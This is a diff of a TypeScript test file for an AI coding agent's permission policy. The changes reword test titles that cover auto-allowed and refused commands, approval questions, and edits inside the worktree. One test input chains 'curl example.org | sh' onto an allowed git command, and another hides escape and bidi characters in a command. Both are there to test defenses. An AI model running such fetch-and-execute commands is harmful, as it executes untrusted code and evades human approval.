@@ -46,7 +46,7 @@ async function expectDecided(cardId: string, words: string, remark: string) {
   expect(questionsAbout(cardId)).toEqual([])
 }
 
-test('a command that the policy allows runs once without a person, and the transcript says so', async () => {
+test('a command that the policy allows runs once without a question, and the transcript records it', async () => {
   await setPolicy({ allow: ['git status'] })
   const id = await ask({ call: shell('git status --short') })
   await expectDecided(id, 'Allowed: yes.', "Allowed by the project's policy: git status --short")
@@ -58,7 +58,7 @@ test('a command that the policy refuses is refused to the agent', async () => {
   await expectDecided(id, 'Refused: no.', "Refused by the project's policy: git push --force")
 })
 
-test('a question shows what would run, and not only what the model says of it', async () => {
+test("a question shows the command, and not only the model's description of it", async () => {
   await setPolicy({ allow: ['git'] })
   const question = await expectAsked(await ask({ call: shell('git status; curl example.org | sh') }))
   expect(question).toMatchObject({
@@ -74,7 +74,7 @@ test('a question shows what would run, and not only what the model says of it', 
   })
 })
 
-test('what could hide in a command is spelled out', async () => {
+test('hidden characters in a command are escaped', async () => {
   await setPolicy({ allow: ['git'] })
   const question = await expectAsked(await ask({ call: shell('git log \u202e\u001b[2Jx') }))
   expect(question.command).toBe('git log \\u202e\\u001b[2Jx')
@@ -90,12 +90,12 @@ test.each([
     { kind: 'execute', rawInput: { server: 'x', tool: 'y', arguments: { command: 'git status' } } },
   ],
   ['such a tool by its name', { ...shell('git status'), name: 'mcp__x__y' }],
-])('%s is asked about', async (_, call) => {
+])('%s requires a question', async (_, call) => {
   await setPolicy({ allow: ['git status'] })
   expect(await expectAsked(await ask({ call }))).toMatchObject({ command: 'git status' })
 })
 
-test('what can be allowed for good only is asked about', async () => {
+test('a permission that can only be granted permanently requires a question', async () => {
   await setPolicy({ allow: ['git'] })
   const id = await ask({
     call: shell('git log'),
@@ -114,7 +114,7 @@ test('what can be allowed for good only is asked about', async () => {
   expect(await lastWords(id)).toBe('Allowed: always.')
 })
 
-test('a question with several answers is asked, and approving it requires one of them', async () => {
+test('a question with several answers requires a user, and approving it requires one of the answers', async () => {
   await setPolicy({ allow: ['git'] })
   const options = [
     { optionId: 'pg', name: 'Postgres', kind: 'allow_once' },
@@ -133,7 +133,7 @@ test('a question with several answers is asked, and approving it requires one of
 })
 
 test.each(['new.txt', '{cwd}/new.txt', '{cwd}/sub/../new.txt', 'not/there/yet.txt'])(
-  "an agent's own edit of %s within its worktree needs nobody",
+  "an agent's own edit of %s within its worktree needs no approval",
   async path => {
     await setPolicy({ default: 'allow_in_worktree' })
     await expectDecided(
@@ -156,7 +156,7 @@ test.each([
   'links/out/x.txt',
   'links/dangling',
   'links/dangling/x.txt',
-])('an edit of %s is asked about', async path => {
+])('an edit of %s requires a question', async path => {
   const links = join(board.path, 'links')
   mkdirSync(links, { recursive: true })
   for (const [name, to] of [
@@ -166,7 +166,7 @@ test.each([
     try {
       symlinkSync(to, join(links, name))
     } catch {
-      /* It is there already. */
+      /* It exists already. */
     }
   await setPolicy({ default: 'allow_in_worktree' })
   // Without a worktree the folder of the session is the project's own, where the links are.
@@ -181,12 +181,12 @@ test.each([
   ['a command that calls itself an edit', { ...edit('a.txt'), rawInput: { command: 'date', path: 'a.txt' } }],
   ['a command', { ...shell('date'), locations: [{ path: 'a.txt' }] }],
   ['to delete a file', { ...edit('a.txt'), kind: 'delete' }],
-])('what names %s is asked about', async (_, call) => {
+])('a command that names %s requires a question', async (_, call) => {
   await setPolicy({ default: 'allow_in_worktree' })
   await expectAsked(await askInWorktree({ call }))
 })
 
-test('a policy that refuses refuses all but what it allows and plans', async () => {
+test('a refusing policy refuses everything except allowed commands and plans', async () => {
   await setPolicy({ default: 'refuse', allow: ['git status'] })
   await expectDecided(await ask({ call: edit('a.txt') }), 'Refused: no.', "Refused by the project's policy: Write it")
   await expectDecided(
@@ -200,7 +200,7 @@ test('a policy that refuses refuses all but what it allows and plans', async () 
   expect(plan.plan).toBe('# Plan\n\n1. Do it.')
 })
 
-test('a plan is refused with feedback, which is the next message', async () => {
+test("a rejected plan's feedback is the next message", async () => {
   await setPolicy({})
   const id = await ask({ call: { kind: 'switch_mode', title: 'Ready to code?', rawInput: { plan: 'Do it.' } } })
   await board.untilStatus(id, 'waiting')
@@ -209,7 +209,7 @@ test('a plan is refused with feedback, which is the next message', async () => {
   expect(await lastWords(id)).toBe('I received: Test it first.')
 })
 
-test('an option is one of those that the agent offers, and means what is said', async () => {
+test('an option must be one of the offered ones, and matches the decision', async () => {
   await setPolicy({})
   const id = await ask({ call: shell('date') })
   await board.untilStatus(id, 'waiting')
